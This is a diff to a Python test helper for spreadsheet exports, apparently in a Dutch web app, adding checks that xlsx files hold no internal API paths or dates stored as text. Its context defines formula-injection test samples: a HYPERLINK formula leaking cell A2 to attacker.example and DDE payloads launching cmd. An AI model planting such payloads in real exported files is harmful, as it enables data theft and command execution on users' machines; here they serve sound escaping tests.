@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from typing import Any
 
 from asgiref.sync import async_to_sync
@@ -17,6 +18,9 @@ HOSTILE_NOTE = '=HYPERLINK("http://attacker.example/?x="&A2,"Klik")'
 HOSTILE_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
 HOSTILE_TEXT = "+1+cmd|' /C notepad'!A0"
 HOSTILE_MINUS = "-2+3+cmd|' /C calc'!A0"
+# A date or a clock time/duration written as text (what HR cannot compute with).
+ISO_DATE = re.compile(r"\d{4}-\d{2}-\d{2}|\d{2}/\d{2}/\d{4}")
+CLOCK = re.compile(r"\d{1,3}[:.]\d{2}(?:[:.]\d{2})?")
 
 
 def downloaded(response: Any) -> bytes:
@@ -59,3 +63,16 @@ def assert_csv_text(content: bytes, *values: str) -> None:
     for value in values:
         assert "'" + value in cells, f"{value!r} is not in the file as text"
         assert value not in cells
+
+
+def xlsx_rows(content: bytes) -> list[list[Cell]]:
+    """The cells of the first sheet, row by row (with their data type and number format)."""
+    book = load_workbook(io.BytesIO(content))
+    return [list(row) for row in book.worksheets[0].iter_rows()]
+
+
+def assert_no_internal_text(content: bytes) -> None:
+    """DESIGN §18: no internal API path and no date, time or number written as text in an xlsx."""
+    texts = [cell.value for cell in xlsx_cells(content) if isinstance(cell.value, str)]
+    assert not [text for text in texts if "/api/" in text or "/media/" in text]
+    assert not [text for text in texts if ISO_DATE.fullmatch(text) or CLOCK.fullmatch(text)]
